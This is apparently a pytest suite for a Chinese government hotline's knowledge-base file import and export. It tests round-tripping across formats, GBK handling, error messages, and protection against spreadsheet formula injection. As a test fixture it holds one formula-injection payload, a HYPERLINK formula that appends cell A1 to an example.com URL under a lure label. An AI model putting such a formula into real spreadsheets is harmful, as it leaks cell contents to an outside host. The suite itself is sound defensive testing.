"""Knowledge-base files on disk (第二十九–三十一条): JSONL, JSON, CSV, XLSX."""

from __future__ import annotations

import csv
import io
import logging
import tempfile
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hotline_desk.core.errors import DataFormatError, StorageError
from hotline_desk.core.kb.entry import KBEntry, Region
from hotline_desk.core.kb.formats import BEIJING, looks_like_formula
from hotline_desk.core.vocabulary import Area, ReviewState
from hotline_desk.storage.kb_files import (
    XLSX_MAX_CELL_CHARS,
    kb_file_kind,
    load_kb_file,
    read_kb_file,
    write_kb_file,
)

ENTRIES = [
    KBEntry(
        id="KB-GJJ-0001", title="合肥市住房公积金租房提取条件",
        answer="连续足额缴存满3个月，本人及配偶无自有住房的可申请。\n可通过皖事通APP办理。",
        questions=("租房能取公积金吗", "房租可以用公积金付吗"), keywords=("公积金", "租房提取"),
        policy_basis="《住房公积金管理条例》", category=Area.PUBLIC_SERVICE,
        owner_unit="合肥市住房公积金管理中心", region=Region("安徽省", "合肥市", "蜀山区"),
        valid_from=date(2024, 1, 1), valid_to=date(2027, 12, 31),
        review_state=ReviewState.PUBLISHED, version=2,
        updated_at=datetime(2026, 6, 1, 9, 0, tzinfo=BEIJING),
    ),
    KBEntry(id="0002", title="=SUM(A1:A3)", answer="+86 以等号开头的文本不是公式",
            questions=("单个问题；带分号",), keywords=("a;b",), region=Region("", "", ""),
            review_state=ReviewState.DRAFT),
]

SUFFIXES = (".jsonl", ".json", ".csv", ".xlsx")


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_write_then_read_every_format(tmp_path: Path, suffix: str) -> None:
    """第三十一条 同步更新: each format writes and reads back the same entries."""
    path = tmp_path / f"kb{suffix}"
    write_kb_file(path, ENTRIES)
    assert read_kb_file(path) == ENTRIES
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary left behind


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_chinese_header_export_reads_back(tmp_path: Path, suffix: str) -> None:
    """第三十条: exports for departments (Chinese headers) read back unchanged."""
    path = tmp_path / f"kb{suffix}"
    write_kb_file(path, ENTRIES, chinese_headers=True)
    assert read_kb_file(path) == ENTRIES


def test_csv_is_written_with_bom_for_excel(tmp_path: Path) -> None:
    """第三十条: Excel opens the exported CSV with Chinese intact (UTF-8 BOM)."""
    path = tmp_path / "kb.csv"
    write_kb_file(path, ENTRIES)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,title,answer,")


def test_xlsx_text_starting_with_equals_is_not_a_formula(tmp_path: Path) -> None:
    """第三十条 权威准确: an answer is stored as text, never evaluated by Excel."""
    path = tmp_path / "kb.xlsx"
    write_kb_file(path, ENTRIES)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet.title == "知识库"
    cell = sheet.cell(row=3, column=2)
    assert cell.value == "=SUM(A1:A3)" and cell.data_type == "s"


HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击查看最新政策")'
FORMULA_ENTRY = KBEntry(id="-KB-9", title="@提醒 +86", answer=HYPERLINK,
                        questions=("=1+1",), keywords=("-", "#N/A"), owner_unit="'=单位",
                        valid_from=date(2024, 1, 1), version=4)


def _xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_csv_export_of_a_formula_answer_is_text(tmp_path: Path) -> None:
    """第三十条 权威准确: "=HYPERLINK(…)" in an answer is no formula in the CSV file
    (OWASP: a leading "'"), and the file imports back unchanged."""
    path = tmp_path / "kb.csv"
    write_kb_file(path, [FORMULA_ENTRY])
    header, row = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    assert not any(looks_like_formula(cell) for cell in row)
    cells = dict(zip(header, row, strict=True))
    assert cells["answer"] == "'" + HYPERLINK and cells["id"] == "'-KB-9"
    assert cells["keywords"] == "'-|#N/A" and cells["owner_unit"] == "''=单位"
    assert (cells["valid_from"], cells["version"]) == ("2024-01-01", "4")  # not text: as is
    assert read_kb_file(path) == [FORMULA_ENTRY]


def test_xlsx_export_of_a_formula_answer_is_text(tmp_path: Path) -> None:
    """第三十条 权威准确: in XLSX every cell is a text cell — no formula, no error value —
    and a formula-like text also has Excel's quote prefix; it imports back unchanged."""
    path = tmp_path / "kb.xlsx"
    write_kb_file(path, [FORMULA_ENTRY, KBEntry(id="N", title="#N/A", answer="#DIV/0!")])
    cells = _xlsx_cells(path)
    assert {cell.data_type for cell in cells} == {"s"}
    by_value = {cell.value: cell for cell in cells}
    assert by_value[HYPERLINK].quotePrefix and by_value["-KB-9"].quotePrefix
    assert by_value["#N/A"].quotePrefix and not by_value["N"].quotePrefix
    assert "''=单位" in by_value  # a text starting with "'" keeps it after the import
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml and 't="e"' not in sheet_xml
    assert read_kb_file(path)[0] == FORMULA_ENTRY
    assert read_kb_file(path)[1].title == "#N/A"


def test_xlsx_refuses_text_longer_than_a_cell(tmp_path: Path) -> None:
    """第三十条: Excel holds 32,767 characters per cell; a longer answer is refused, not cut."""
    long_entry = KBEntry(id="L", title="t", answer="长" * (XLSX_MAX_CELL_CHARS + 1))
    with pytest.raises(DataFormatError) as info:
        write_kb_file(tmp_path / "kb.xlsx", [long_entry])
    assert info.value.problems == [("编号L", "answer", "内容过长（32768个字符），"
                                                      "超过Excel单元格上限32767个字符")]
    assert list(tmp_path.iterdir()) == []
    write_kb_file(tmp_path / "kb.csv", [long_entry])  # CSV has no such limit
    assert read_kb_file(tmp_path / "kb.csv") == [long_entry]


def test_xlsx_lists_every_entry_it_cannot_write(tmp_path: Path) -> None:
    """第三十条 查漏纠错: every bad entry is named, not only the first."""
    entries = [KBEntry(id="a", title="t", answer="x\x01"), KBEntry(id="b", title="t", answer="y"),
               KBEntry(id="c", title="t\x02", answer="z", owner_unit="长" * 40_000)]
    with pytest.raises(DataFormatError) as info:
        write_kb_file(tmp_path / "kb.xlsx", entries)
    assert [(loc, field) for loc, field, _ in info.value.problems] == [
        ("编号a", "answer"), ("编号c", "title"), ("编号c", "owner_unit")]


def test_extension_decides_the_format() -> None:
    """第三十一条: the file type follows its extension, case-insensitively."""
    assert kb_file_kind("a.JSONL") == "jsonl"
    assert kb_file_kind("a.ndjson") == "jsonl"
    assert kb_file_kind(Path("dir/a.Json")) == "json"
    assert kb_file_kind("a.CSV") == "csv"
    assert kb_file_kind("a.xlsm") == "xlsx"
    with pytest.raises(DataFormatError) as info:
        kb_file_kind("a.xls")
    assert "另存为 .xlsx" in info.value.message_zh
    with pytest.raises(DataFormatError) as info:
        kb_file_kind("a.txt")
    assert ".txt" in info.value.message_zh


def test_gbk_csv_from_chinese_excel_is_read_with_a_warning(tmp_path: Path) -> None:
    """第三十条: a CSV saved by Chinese Excel (GBK) is read, and the import says so."""
    path = tmp_path / "部门.csv"
    path.write_bytes("编号,标题,答复口径,分类\nA1,医保异地备案,可在皖事通办理,社会管理\n"
                     .encode("gbk"))
    result = load_kb_file(path)
    assert result.entries[0].title == "医保异地备案"
    assert result.entries[0].category is Area.SOCIAL
    assert result.warnings[0][2].startswith("文件不是UTF-8编码，已按GBK")
    path.write_bytes("编号,标题\nA1,医保\n".encode("gbk"))
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert info.value.problems[-1][2].startswith("文件不是UTF-8编码，已按GBK")


def test_jsonl_must_be_utf8(tmp_path: Path) -> None:
    """第三十条: JSON Lines is UTF-8; other bytes are rejected with the line number."""
    path = tmp_path / "kb.jsonl"
    path.write_bytes(b'{"id": "a", "title": "t", "answer": "x"}\n'
                     + '{"id": "b", "title": "标题"}\n'.encode("gbk"))
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert info.value.problems == [("第2行", "", "文件不是UTF-8编码，请另存为UTF-8后再导入")]
    assert info.value.message_zh.startswith("kb.jsonl：")


def test_problems_name_the_file(tmp_path: Path) -> None:
    """第三十条 查漏纠错: the message says which file is wrong and where."""
    path = tmp_path / "税务分中心.jsonl"
    path.write_text('{"id": "a", "title": "t"}\n', encoding="utf-8")
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert info.value.message_zh.startswith("税务分中心.jsonl：知识库文件有误")
    assert info.value.problems == [("第1行", "answer", "缺少必填字段「答复口径」")]


def test_missing_file_and_folder_are_storage_errors(tmp_path: Path) -> None:
    """第三十条: an unreadable file gives a Chinese message, not a crash."""
    for suffix in SUFFIXES:
        with pytest.raises(StorageError) as info:
            read_kb_file(tmp_path / f"none{suffix}")
        assert "文件不存在" in info.value.message_zh
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    with pytest.raises(StorageError):
        read_kb_file(folder)
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    with pytest.raises(StorageError):
        read_kb_file(folder)


def test_corrupt_xlsx_is_a_data_format_error(tmp_path: Path) -> None:
    """第三十条: a damaged spreadsheet is rejected with a clear message."""
    path = tmp_path / "bad.xlsx"
    path.write_bytes(b"PK\x03\x04 this is not really a workbook")
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert "不是有效的XLSX文件" in info.value.message_zh


def _department_workbook(path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "知识条目"
    sheet["A2"] = "芜湖市人社局知识库报送表"
    sheet.append(["序号", "编号", "标题*", "答复口径（必填）", "相似问题", "分类", "生效日期",
                  "失效日期", "版本", "更新时间", "状态"])
    sheet.append([1, 1001, "失业保险金申领条件", "非因本人意愿中断就业且缴费满1年的可申领。",
                  "失业金怎么领\n失业了能拿钱吗", "社会管理", datetime(2024, 1, 1),
                  date(2026, 12, 31), 2.0, datetime(2026, 5, 20, 14, 30), "已发布"])
    sheet.append([])
    sheet.append([2, "RS-2", "灵活就业社保补贴", "按规定申请。", None, "公共服务", "2025/3/1",
                  None, 1, None, "draft"])
    other = workbook.create_sheet("说明")
    other["A1"] = "第二个工作表不导入"
    workbook.save(path)


def test_department_xlsx_with_excel_types(tmp_path: Path) -> None:
    """第三十条: a department's own sheet (title row, Excel dates and numbers) imports."""
    path = tmp_path / "人社.xlsx"
    _department_workbook(path)
    result = load_kb_file(path)
    first, second = result.entries
    assert first == KBEntry(
        id="1001", title="失业保险金申领条件", answer="非因本人意愿中断就业且缴费满1年的可申领。",
        questions=("失业金怎么领", "失业了能拿钱吗"), category=Area.SOCIAL,
        valid_from=date(2024, 1, 1), valid_to=date(2026, 12, 31), version=2,
        updated_at=datetime(2026, 5, 20, 14, 30, tzinfo=BEIJING),
        review_state=ReviewState.PUBLISHED,
    )
    assert second.id == "RS-2" and second.valid_from == date(2025, 3, 1)
    assert second.review_state is ReviewState.DRAFT
    assert ("第2行", "", "表头之前的行，已跳过") in result.warnings
    assert ("第3行", "序号", "未知列「序号」，已忽略") in result.warnings


def test_xlsx_problems_carry_sheet_row_numbers(tmp_path: Path) -> None:
    """第三十条 查漏纠错: XLSX problems name the row as Excel numbers it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["编号", "标题", "答复口径", "分类", "生效日期", "失效日期"])
    sheet.append(["A", "t", "a", "教育", "2024-01-01", None])
    sheet.append([])
    sheet.append([])
    sheet.append(["A", None, "a", None, date(2025, 1, 1), date(2024, 1, 1)])
    path = tmp_path / "bad.xlsx"
    workbook.save(path)
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert {(loc, field) for loc, field, _ in info.value.problems} == {
        ("第2行", "category"), ("第5行", "id"), ("第5行", "title"), ("第5行", "valid_to")}


def test_empty_xlsx_is_rejected(tmp_path: Path) -> None:
    """第三十条: an empty sheet is not an empty knowledge base."""
    path = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(path)
    with pytest.raises(DataFormatError) as info:
        read_kb_file(path)
    assert info.value.problems == [("文件", "", "文件中没有表头和数据")]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_failed_export_leaves_the_old_file(tmp_path: Path, suffix: str) -> None:
    """第三十一条: an export that cannot be written never damages the previous file."""
    path = tmp_path / f"kb{suffix}"
    write_kb_file(path, ENTRIES)
    before = path.read_bytes()
    bad = KBEntry(id="x", title="t", answer="a", keywords=("a|b",))
    with pytest.raises(DataFormatError):
        write_kb_file(path, [bad])
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


def test_xlsx_refuses_characters_excel_cannot_hold(tmp_path: Path) -> None:
    """第三十条: entries built elsewhere with control characters are refused, not corrupted."""
    bad = KBEntry(id="x", title="t", answer="a\x01b")
    with pytest.raises(DataFormatError) as info:
        write_kb_file(tmp_path / "kb.xlsx", [bad])
    assert info.value.problems[0][0] == "编号x"
    assert list(tmp_path.iterdir()) == []


def test_write_into_missing_folder_is_a_storage_error(tmp_path: Path) -> None:
    """第三十一条: a bad export path gives a Chinese message."""
    with pytest.raises(StorageError) as info:
        write_kb_file(tmp_path / "no" / "such" / "kb.jsonl", ENTRIES)
    assert "kb.jsonl" in info.value.message_zh


def test_read_kb_file_logs_warnings(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """第三十条: warnings are not lost when only the entries are asked for."""
    path = tmp_path / "kb.csv"
    path.write_text("id,title,answer,备注\n1,t,a,x\n", encoding="utf-8")
    with caplog.at_level(logging.WARNING, logger="hotline_desk.storage.kb_files"):
        assert len(read_kb_file(path)) == 1
    assert "未知列「备注」" in caplog.text


# Texts often start like a formula (=, +, -, @), or with "'" before one (CSV injection).
_plain = st.builds(
    str.__add__, st.sampled_from(["", "", "=", "+", "-", "@", "'", "'=", HYPERLINK, "#N/A"]),
    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn")), max_size=12),
).map(str.strip).filter(bool)
_item = _plain.filter(lambda s: "|" not in s and "｜" not in s)


@st.composite
def _entries(draw: st.DrawFn) -> list[KBEntry]:
    count = draw(st.integers(1, 4))
    return [
        KBEntry(
            id=f"E{n}", title=draw(_plain), answer=draw(_plain) + "\n" + draw(_plain),
            questions=tuple(draw(st.lists(_item, max_size=3))),
            keywords=tuple(draw(st.lists(_item, max_size=3))),
            category=draw(st.none() | st.sampled_from(Area)),
            region=Region(draw(st.sampled_from(["安徽省", ""])),
                          draw(st.sampled_from(["", "合肥市"]))),
            valid_from=draw(st.none() | st.dates(date(2000, 1, 1), date(2030, 1, 1))),
            review_state=draw(st.sampled_from(ReviewState)), version=draw(st.integers(1, 99)),
            updated_at=draw(st.none() | st.datetimes(datetime(2000, 1, 1), datetime(2030, 1, 1),
                                                     timezones=st.just(BEIJING))),
        )
        for n in range(count)
    ]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_entries(), st.sampled_from(SUFFIXES))
def test_file_round_trip_property(entries: list[KBEntry], suffix: str) -> None:
    """第三十一条 同步更新: export then import gives the same entries, for every format."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"kb{suffix}"
        write_kb_file(path, entries)
        assert read_kb_file(path) == entries
        if suffix == ".xlsx":  # 第三十条: never a formula or an error value in the file
            assert {cell.data_type for cell in _xlsx_cells(path)} == {"s"}


def _many(count: int) -> list[KBEntry]:
    return [
        KBEntry(
            id=f"KB-SYN-{n:06d}", title=f"住房公积金租房提取条件{n}",
            answer="职工连续足额缴存住房公积金满3个月，本人及配偶在缴存城市无自有住房且租赁住房的，"
                   "可以申请提取住房公积金支付房租。可通过皖事通APP或安徽政务服务网在线办理。",
            questions=("租房能取公积金吗", "房租可以用公积金付吗", "公积金怎么付房租"),
            keywords=("公积金", "租房提取", "房租"), policy_basis="《住房公积金管理条例》",
            category=Area.PUBLIC_SERVICE, owner_unit="合肥市住房公积金管理中心",
            region=Region("安徽省", "合肥市", "蜀山区"), valid_from=date(2024, 1, 1),
            version=2, updated_at=datetime(2026, 6, 1, 9, 0, tzinfo=BEIJING),
        )
        for n in range(count)
    ]


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".xlsx"])
def test_a_large_file_round_trips(tmp_path: Path, suffix: str) -> None:
    """第二十九条 实时更新: a large file imports whole (speed: benchmarks/kb_import.py)."""
    entries = _many(3_000)
    path = tmp_path / f"big{suffix}"
    write_kb_file(path, entries)
    result = read_kb_file(path)
    assert len(result) == 3_000 and result == entries
